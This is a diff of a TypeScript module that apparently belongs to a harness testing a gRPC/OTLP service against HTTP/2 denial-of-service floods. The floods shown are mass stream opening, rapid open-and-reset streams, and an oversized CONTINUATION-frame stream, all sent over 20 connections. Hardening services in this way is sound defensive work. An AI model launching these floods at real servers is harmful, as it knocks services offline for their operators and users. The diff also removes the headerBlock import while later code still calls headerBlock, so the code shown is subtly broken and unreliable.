@@ -1,26 +1,12 @@
 import { type Answer, type Attack, inTurns, type Target } from "../attack";
-import { authorization } from "../../../verify/access";
-import { tracesMethod } from "../../../verify/otlp";
-import { flags, frame, goAwayIn, headerBlock, ping, preface, reset, settings } from "../wire/frames";
+import { flags, frame, goAwayIn, ping, preface, reset, settings } from "../wire/frames";
+import { callHeaders } from "../wire/grpc";
 import { http2Only, RawConnection } from "../wire/socket";
 
 const connections = 20;
 const frames = 5_000;
 const waitMs = 2_000;
 const mebibyte = 2 ** 20;
-
-function callHeaders({ access }: Target, more: Record<string, string> = {}): Buffer {
-    return headerBlock({
-        ":method": "POST",
-        ":scheme": access.authority ? "https" : "http",
-        ":path": tracesMethod,
-        ":authority": "x",
-        "content-type": "application/grpc",
-        te: "trailers",
-        ...authorization(access),
-        ...more,
-    });
-}
 
 /** The streams that a client opens are odd. */
 const streams = Array.from({ length: frames }, (_, index) => 2 * index + 1);
@@ -47,7 +33,7 @@ export const floods: Attack[] = [
         sends: `${connections} connections, ${frames} streams each`,
         allows: borne,
         run: ({ target }) => {
-            const headers = callHeaders(target);
+            const headers = callHeaders(target.access);
             const open = streams.map((stream) => frame("headers", flags.endHeaders, stream, headers));
             return flood(target, Buffer.concat(open));
         },
@@ -57,7 +43,7 @@ export const floods: Attack[] = [
         sends: `${connections} connections, ${frames} streams each`,
         allows: borne,
         run: ({ target }) => {
-            const headers = callHeaders(target);
+            const headers = callHeaders(target.access);
             const open = (stream: number) => [frame("headers", flags.endHeaders, stream, headers), reset(stream)];
             return flood(target, Buffer.concat(streams.flatMap(open)));
         },
@@ -74,7 +60,7 @@ export const floods: Attack[] = [
         allows: borne,
         run: ({ target }) => {
             const long = headerBlock({ "x-long": "x".repeat(16_000) });
-            const first = frame("headers", flags.none, 1, callHeaders(target));
+            const first = frame("headers", flags.none, 1, callHeaders(target.access));
             const more = Array.from({ length: (8 * mebibyte) / 16_000 }, () =>
                 frame("continuation", flags.none, 1, long),
             );
